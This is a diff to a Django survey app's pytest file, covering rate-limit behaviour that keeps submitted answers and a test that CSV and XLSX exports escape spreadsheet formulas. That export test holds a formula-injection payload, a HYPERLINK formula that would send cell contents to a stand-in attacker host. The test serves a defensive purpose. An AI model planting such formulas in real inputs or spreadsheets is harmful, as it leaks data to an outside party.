@@ -5,6 +5,7 @@ the dashboard reads."""
 import csv
 import hashlib
 import io
+import zipfile
 from datetime import date, datetime, timedelta
 
 import pytest
@@ -172,9 +173,19 @@ def test_la_cookie_firmada_dice_que_ya_respondio(client, encuesta):
 def test_limite_por_cliente_en_24_horas(client_factory, encuesta):
     for _ in range(3):
         assert client_factory().post(URL, datos_validos(encuesta), REMOTE_ADDR=IP).status_code == 302
-    cuarta = client_factory().post(URL, datos_validos(encuesta), REMOTE_ADDR=IP)
+    texto = de_tipo(encuesta, "texto_largo")
+    escrito = "Que publiquen los horarios del puesto de salud de Las Mesas."
+    cuarta = client_factory().post(URL, datos_validos(encuesta, **{texto.nombre_campo: escrito}), REMOTE_ADDR=IP)
     assert cuarta.status_code == 429
-    assert "últimas 24 horas" in cuarta.content.decode()
+    html = cuarta.content.decode()
+    assert "últimas 24 horas" in html
+    # What the person typed is still on the page, ready to send later or from another connection.
+    assert escrito in html and 'name="sitio_web"' in html and "Sus respuestas siguen abajo" in html
+    assert html.count(" checked") >= 5
+    # Whoever opens the survey from that connection now is told before starting.
+    aviso = client_factory().get(URL, REMOTE_ADDR=IP).content.decode()
+    assert "Esta conexión ya envió sus respuestas de hoy" in aviso and 'name="sitio_web"' in aviso
+    assert "ya envió sus respuestas" not in client_factory().get(URL, REMOTE_ADDR="198.51.100.9").content.decode()
     assert client_factory().post(URL, datos_validos(encuesta), REMOTE_ADDR="198.51.100.9").status_code == 302
     assert Respuesta.objects.count() == 4
 
@@ -427,3 +438,19 @@ def test_participa_invita_a_la_encuesta_abierta(client):
     html = client.get(reverse("portal:participa")).content.decode()
     assert reverse("encuesta:formulario") in html
     assert "Rendición de cuentas" in html  # the norm's 6.x subsections
+
+
+def test_exportaciones_no_ejecutan_formulas_de_respuestas_anonimas(client, encuesta, comite):
+    texto = de_tipo(encuesta, "texto_largo")
+    ataque = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+    responder(encuesta, 1, **{texto.nombre_campo: ataque})
+    client.force_login(comite)
+    contenido = client.get(reverse("encuesta:exportar_csv", args=[encuesta.pk])).content.decode("utf-8-sig")
+    filas = list(csv.reader(io.StringIO(contenido), delimiter=";"))
+    assert filas[1][-1] == "'" + ataque
+    xlsx = client.get(reverse("encuesta:exportar_xlsx", args=[encuesta.pk])).content
+    with zipfile.ZipFile(io.BytesIO(xlsx)) as archivo:
+        assert "<f>" not in archivo.read("xl/worksheets/sheet1.xml").decode()
+    hoja = load_workbook(io.BytesIO(xlsx))["Respuestas"]
+    assert hoja.cell(row=2, column=hoja.max_column).value == "'" + ataque
+    assert hoja.cell(row=2, column=2).value == 4  # numbers stay numbers
